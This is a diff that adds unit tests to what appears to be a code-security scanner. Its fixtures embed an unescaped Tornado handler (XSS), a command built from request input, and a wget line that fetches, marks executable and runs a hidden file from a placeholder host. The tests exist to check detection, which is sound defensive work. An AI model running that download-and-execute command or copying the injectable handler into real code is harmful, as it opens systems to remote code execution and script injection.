@@ -48,3 +48,24 @@ def test_the_condition_of_a_conditional_expression_is_not_in_its_value():
             "    other = request.args['c'] if request.args.get('raw') else 'uptime'\n"
             "    os.system(other)\n")
     assert _by_line("command-from-request-input", text) == {7: "critical"}
+
+
+def test_a_tornado_handler_writing_request_text_in_markup_is_high_a_dict_medium_escaped_nothing():
+    text = ("import tornado.escape, tornado.web\n"
+            "class H(tornado.web.RequestHandler):\n"
+            "    def get(self):\n"
+            "        q = self.get_argument('q')\n"
+            "        self.write('<h1>' + q + '</h1>')\n"
+            "        self.write({'q': q})\n"
+            "        self.write('<h1>' + tornado.escape.xhtml_escape(q) + '</h1>')\n")
+    assert _by_line("xss-from-request-input", text, "handlers.py") == {5: "high", 6: "medium"}
+
+
+def test_a_download_saved_then_run_through_a_variable_is_critical_a_saved_archive_is_not():
+    text = ("import os\n"
+            "DROP = 'wget -q -O /tmp/.x https://a.example/x && chmod +x /tmp/.x && /tmp/.x'\n"
+            "DATA = 'wget -q -O /tmp/d.tgz https://a.example/d.tgz && tar xzf /tmp/d.tgz'\n"
+            "def go():\n"
+            "    os.system(DROP)\n"
+            "    os.system(DATA)\n")
+    assert _by_line("shell-command-downloads-file", text, "setup_helpers.py") == {5: "critical"}
